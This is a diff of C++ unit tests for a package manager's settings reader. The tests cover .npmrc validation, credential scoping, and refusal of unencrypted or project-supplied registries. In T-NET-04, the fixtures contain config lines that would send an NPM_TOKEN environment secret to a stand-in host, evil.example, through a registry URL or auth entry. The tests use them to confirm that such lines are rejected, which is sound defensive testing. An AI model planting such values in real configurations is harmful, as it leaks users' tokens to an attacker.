@@ -178,20 +178,29 @@ TEST_CASE("an age may be written in several ways") {
 
 TEST_CASE("what does not fit is a warning in a file and an error on the command line") {
   Scene scene;
-  scene.write("home/.npmrc",
-              "fetch-retries=many\nlayout=sideways\nregistry=ftp://r.example/\ndepth=abc\n");
+  scene.write("home/.npmrc", "fetch-retries=many\nlayout=sideways\ndepth=abc\n");
   CHECK(scene.read().fetch_retries.value == 3);
   CHECK(scene.warns_of("`fetch-retries` in " +
                        scene.folder / "home/.npmrc:1 is ignored: it must be a number"));
   CHECK(scene.warns_of("`layout` in " +
                        scene.folder / "home/.npmrc:2 is ignored: it must be isolated or hoisted"));
-  CHECK(scene.warns_of("`registry`"));
   CHECK_FALSE(scene.warns_of("depth"));  // none of hod's
   scene.input.flags = {{"layout", "sideways"}};
   const auto settings = read_settings(scene.input);
   REQUIRE_FALSE(settings);
   CHECK(settings.error().code() == ErrorCode::usage);
   CHECK(settings.error().what() == "`--layout`: it must be isolated or hoisted");
+}
+
+TEST_CASE("T-RES-07: a registry that is none stops everything; another one is not asked instead") {
+  Scene scene;
+  for (const char* key : {"registry", "@company:registry"}) {
+    scene.write("home/.npmrc", std::string(key) + "=ftp://r.example/\n");
+    const auto settings = read_settings(scene.input);
+    REQUIRE_FALSE(settings);
+    CHECK(settings.error().code() == ErrorCode::config_invalid);
+    CHECK(settings.error().where() == scene.folder / "home/.npmrc:1");
+  }
 }
 
 TEST_CASE("a malformed file of settings stops everything, with its place") {
@@ -354,8 +363,6 @@ TEST_CASE("T-NET-02: a credential belongs to host, port, path and https") {
   CHECK(authorization_for(settings, "https://r.example:8443/npm/x") == "none");
   CHECK(authorization_for(settings, "http://127.0.0.1:4873/x") == "Bearer l");
   CHECK(authorization_for(settings, "http://h.example/x") == "none");
-  scene.write("app/.npmrc", "registry=http://h.example/\n");  // a project's word does not count
-  CHECK(authorization_for(scene.read(), "http://h.example/x") == "none");
   scene.write("home/.npmrc", "registry=http://h.example/\n//h.example/:_authToken=h\n");
   CHECK(authorization_for(scene.read(), "http://h.example/x") == "Bearer h");
 }
@@ -401,16 +408,22 @@ TEST_CASE(
 TEST_CASE("T-NET-04: a project's file gets no variable into an address or a credential") {
   Scene scene;
   scene.input.environment.set("NPM_TOKEN", "s3cret");
-  scene.write(
-      "app/.npmrc",
-      "registry=https://evil.example/${NPM_TOKEN}/\n//evil.example/:_authToken=${NPM_TOKEN}\n");
+  const auto refused = [&scene] {
+    const auto settings = read_settings(scene.input);
+    return !settings &&
+           settings.error().what().find("variables are not expanded") != std::string::npos &&
+           settings.error().text().find("s3cret") == std::string::npos;
+  };
+  scene.write("app/.npmrc", "registry=https://evil.example/${NPM_TOKEN}/\n");
+  CHECK(refused());
+  scene.write("app/.npmrc", "");
   scene.write("app/package.json",
               R"({"hod": {"@s:registry": "https://evil.example/${NPM_TOKEN}/"}})");
-  const Settings settings = scene.read();
-  CHECK(settings.registry.source.text() == "default");
-  CHECK(settings.credentials.empty());
-  for (const auto& [scope, address] : settings.scope_registries)
+  for (const auto& [scope, address] : scene.read().scope_registries)
     CHECK(address.value.find("s3cret") == std::string::npos);
+  scene.write("app/package.json", "{}");
+  scene.write("app/.npmrc", "//evil.example/:_authToken=${NPM_TOKEN}\n");
+  CHECK(scene.read().credentials.empty());
   CHECK(scene.warns_of("variables are not expanded"));
   CHECK_FALSE(scene.warns_of("s3cret"));
   scene.write("home/.npmrc", "//r.example/:_authToken=${NPM_TOKEN:-none}\n");
@@ -419,10 +432,13 @@ TEST_CASE("T-NET-04: a project's file gets no variable into an address or a cred
 
 TEST_CASE("T-NET-05: a project cannot send anybody to a registry without encryption") {
   Scene scene;
-  scene.write("app/.npmrc", "registry=http://r.example/\n@s:registry=http://r.example/\n");
-  CHECK(scene.read().registry.source.text() == "default");
-  CHECK(scene.read().scope_registries.empty());
-  CHECK(scene.warns_of("a project cannot send you to a registry without encryption"));
+  for (const char* text : {"registry=http://r.example/\n", "@s:registry=http://r.example/\n"}) {
+    scene.write("app/.npmrc", text);
+    const auto settings = read_settings(scene.input);
+    REQUIRE_FALSE(settings);
+    CHECK(settings.error().what().find("a project cannot send you to a registry without") !=
+          std::string::npos);
+  }
   scene.write("app/.npmrc", "registry=http://127.0.0.1:4873/\n");
   CHECK(scene.read().registry.value == "http://127.0.0.1:4873/");
   scene.write("app/.npmrc", "");
